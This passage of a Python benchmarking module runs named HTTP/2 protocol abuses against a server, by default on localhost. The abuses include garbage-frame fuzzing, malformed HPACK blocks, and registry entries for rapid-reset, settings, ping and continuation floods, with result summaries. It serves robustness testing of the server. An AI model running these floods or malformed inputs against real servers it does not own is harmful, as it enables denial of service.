    """Two kinds of well-framed garbage after a valid preface. (1) ``connections``
    connections (``concurrency`` at a time), each ``frames`` frames of random types (mostly
    the ten RFC 9113 types), flags, stream ids and payloads, connection ``i``'s drawn from
    ``random.Random(f"{seed}:{i}")``: the server may close each with a connection error,
    and reports which, and the connections it kept open or was slowest to close, by index.
    (2) One connection sending ``unknown`` frames of unknown types, then a PING: RFC 9113
    §4.1 says unknown types are ignored, so the PING must be answered and the connection
    kept."""
    sem = asyncio.Semaphore(concurrency)

    async def one(i: int) -> dict[str, Any]:
        rng = random.Random(f"{seed}:{i}")
        data = b"".join(_random_frame(rng) for _ in range(frames))
        async with sem:
            peer = await Peer.open(t)
            try:
                await peer.send(data)
                await peer.settle(timeout)
                s = peer.summary()
                return {"index": i} | {
                    k: s[k] for k in ("goaway_code", "server_closed", "closed_after_s") if k in s
                }
            finally:
                peer.close()

    each = await asyncio.gather(*(one(i) for i in range(connections)))
    goaways = collections.Counter(e["goaway_code"] for e in each if e["goaway_code"] is not None)
    unknown_codes = [c for c in goaways if c not in ERROR_NAMES]
    kept = [e for e in each if not e["server_closed"]]
    slowest = sorted(
        (e for e in each if e["server_closed"]), key=lambda e: -e.get("closed_after_s", 0)
    )
    rng = random.Random(seed)
    peer = await Peer.open(t)
    try:
        junk = b"".join(
            frame(rng.randrange(0x0A, 0x100), rng.randrange(256), rng.randrange(1 << 31), b"??")
            for _ in range(unknown)
        )
        await peer.send(junk + frame(PING, 0, 0, b"unknown!"))
        answered = await peer.wait(lambda: peer.frames["PING"] > 0, 5.0)
        unknown_result = {
            "frames": unknown,
            "ping_answered": answered,
            "goaway": peer.summary()["goaway"],
            "server_closed": peer.closed is not None,
        }
    finally:
        peer.close()
    return {
        "connections": connections,
        "frames_per_connection": frames,
        "closed_by_server": connections - len(kept),
        "kept_open": len(kept),
        "kept_open_connections": kept[:5],
        "goaway_but_kept_open": sum(1 for e in kept if e["goaway_code"] is not None),
        "closed_without_goaway": sum(
            1 for e in each if e["server_closed"] and e["goaway_code"] is None
        ),
        "slowest_closes": slowest[:3],
        "goaways": _names(goaways),
        "unknown_goaway_codes": unknown_codes,
        "unknown_types": unknown_result,
    }


BAD_HPACK = {
    # RFC 7541 §6.1: index 0 is not used and must be treated as a decoding error.
    "index-zero": b"\x80",
    "index-past-the-table": b"\xff\xff\xff\x0f",
    "literal-longer-than-the-block": b"\x10\x05ab",
    # §5.2: padding longer than 7 bits, or not the EOS prefix, is a decoding error.
    "huffman-bad-padding": b"\x10\x81\xff\x01a",
    # §4.2: a table size update above SETTINGS_HEADER_TABLE_SIZE (4096 by default).
    "table-size-over-the-setting": b"\x3f\xe1\xff\x03",
    # §4.2: a table size update must come first in the block.
    "size-update-after-a-field": b"\x82\x20",
    "integer-too-long": b"\xff" + b"\xff" * 20 + b"\x01",
}


async def bad_hpack(t: Target, *, timeout: float = 3.0) -> dict[str, Any]:
    """For each block of :data:`BAD_HPACK`, a connection whose first HEADERS frame carries
    that undecodable block. RFC 9113 §4.3: a decoding error is a connection error
    COMPRESSION_ERROR. Reports the GOAWAY each got."""
    cases: dict[str, Any] = {}
    for name, block in BAD_HPACK.items():
        peer = await Peer.open(t)
        try:
            await peer.send(frame(HEADERS, END_HEADERS, 1, block))
            await peer.settle(timeout)
            s = peer.summary()
            cases[name] = {k: s[k] for k in ("goaway", "server_closed", "closed_how")}
            if peer.rst:
                cases[name]["rst_codes"] = s["rst_codes"]
        finally:
            peer.close()
    got = collections.Counter(c["goaway"] for c in cases.values())
    return {"connections": len(cases), "goaways": dict(got), "cases": cases}


ABUSES: dict[str, Callable[..., Awaitable[dict[str, Any]]]] = {
    "zeros": zeros,
    "past-window": past_window,
    "rapid-reset": rapid_reset,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "continuation-flood": continuation_flood,
    "big-frame": big_frame,
    "many-streams": many_streams,
    "idle-tls": idle_tls,
    "no-hello": no_hello,
    "garbage-preface": garbage_preface,
    "garbage-frames": garbage_frames,
    "bad-hpack": bad_hpack,
}
"""Every abuse by name, in the order the issue lists them."""


def answer(result: dict[str, Any]) -> str:
    """The server's answer to an abuse in a few words (for a table): the GOAWAY or
    RST_STREAM codes, grpc-status, and who closed what."""
    parts: list[str] = []
    if "cases" in result:  # one connection or more per case
        codes: collections.Counter[str] = collections.Counter()
        for case in result["cases"].values():
            if isinstance(case.get("goaways"), dict):
                codes.update(case["goaways"])
            elif case.get("goaway"):
                codes[case["goaway"]] += 1
        parts.append(
            "GOAWAY " + ", ".join(f"{k} ×{v}" for k, v in codes.items()) if codes else "no GOAWAY"
        )
    elif isinstance(result.get("goaways"), dict):
        g = result["goaways"]
        parts.append("GOAWAY " + ", ".join(f"{k} ×{v}" for k, v in g.items()) if g else "no GOAWAY")
    else:
        parts.append(f"GOAWAY {result['goaway']}" if result.get("goaway") else "no GOAWAY")
    if result.get("rst_codes"):
        parts.append("RST_STREAM " + ", ".join(f"{k} ×{v}" for k, v in result["rst_codes"].items()))
    if result.get("grpc_status") is not None:
        parts.append(f"grpc-status {result['grpc_status']}")
    if "closed_by_server" in result and "connections" in result:
        parts.append(f"{result['closed_by_server']}/{result['connections']} closed by the server")
    elif "server_closed" in result:
        parts.append("closed" if result["server_closed"] else "kept open")
    return "; ".join(parts)


async def run(
    name: str, target: Target, *, repeat_for: float = 0.0, **options: Any
) -> dict[str, Any]:
    """Runs abuse ``name`` against ``target`` (again and again until ``repeat_for``
    seconds have passed, so that a quick one lasts long enough to measure others'
    requests against); the last round's dict, with ``abuse``, ``rounds`` and ``seconds``."""
    started = time.monotonic()
    rounds = 0
    while True:
        result = await ABUSES[name](target, **options)
        rounds += 1
        if time.monotonic() - started >= repeat_for:
            break
    return {"abuse": name, "rounds": rounds, "seconds": round(time.monotonic() - started, 3)} | (
        result
    )


class AbuseProcess:
    """One abuse run in a process of its own (``python -m bench.abuse``), at niceness
    ``nice``: the abuser is another pod, not the client whose requests are measured, and
    at a lower priority its own CPU work does not pass for the EPP's slowness on this small
    machine. :attr:`started` is set when the abuser is about to open its first connection
    (its interpreter has started)."""

    def __init__(
        self,
        name: str,
        port: int,
        *,
        host: str = "127.0.0.1",
        tls: bool = True,
        nice: int = 10,
        **options: Any,
    ) -> None:
        if name not in ABUSES:
            raise ValueError(f"no abuse named {name!r}; there are: {', '.join(ABUSES)}")
        self.argv = [sys.executable, "-m", "bench.abuse", name, "--port", str(port)]
        self.argv += ["--host", host, *([] if tls else ["--plaintext"])]
        for key, value in options.items():
            self.argv += ["--option", f"{key}={json.dumps(value)}"]
        self.nice = nice
        self.started = asyncio.Event()
        self._proc: asyncio.subprocess.Process | None = None
        self._stdout: list[bytes] = []
        self._pump: asyncio.Task[None] | None = None

    async def start(self) -> AbuseProcess:
        nice = self.nice
        self._proc = await asyncio.create_subprocess_exec(
            *self.argv,
            cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
            preexec_fn=(lambda: os.nice(nice)) if nice else None,
        )
        self._pump = asyncio.ensure_future(self._read())
        return self

    async def _read(self) -> None:
        assert self._proc is not None and self._proc.stdout is not None
        async for line in self._proc.stdout:
            if line.strip() == b"started":
                self.started.set()
            else:
                self._stdout.append(line)
        self.started.set()  # it ended, started or not: nobody should wait for it any more

    @property
    def done(self) -> bool:
        return self._pump is not None and self._pump.done()

    async def result(self, timeout: float = 120.0) -> dict[str, Any]:
        """Waits for the abuse to end (killing it after ``timeout`` s) and returns its dict."""
        assert self._proc is not None and self._pump is not None
        try:
            await asyncio.wait_for(asyncio.shield(self._pump), timeout)
            await self._proc.wait()
        finally:
            if self._proc.returncode is None:
                self._proc.kill()
                await self._proc.wait()
        assert self._proc.stderr is not None
        err = await self._proc.stderr.read()
        if self._proc.returncode != 0 or not self._stdout:
            what = " ".join(self.argv[2:4])
            raise RuntimeError(f"{what} failed ({self._proc.returncode}): {err.decode()[-3000:]}")
        return json.loads(self._stdout[-1])


async def run_process(name: str, port: int, **kwargs: Any) -> dict[str, Any]:
    """:class:`AbuseProcess` ``name`` against ``port``, to its end; its dict."""
    proc = await AbuseProcess(name, port, **kwargs).start()
    return await proc.result()


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="python -m bench.abuse", description=__doc__.split("\n\n")[0])
    p.add_argument("name", choices=sorted(ABUSES))
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--plaintext", action="store_true", help="cleartext HTTP/2, no TLS")
    p.add_argument(
        "--option",
        action="append",
        default=[],
        metavar="KEY=JSON",
        help="a keyword argument of the abuse (e.g. hold=5)",
    )
    args = p.parse_args(argv)
    options = {}
    for item in args.option:
        key, _, value = item.partition("=")
        options[key.replace("-", "_")] = json.loads(value)
    target = Target(args.port, args.host, not args.plaintext)
    print("started", flush=True)
    print(json.dumps(asyncio.run(run(args.name, target, **options))))
    return 0


if __name__ == "__main__":
    sys.exit(main())
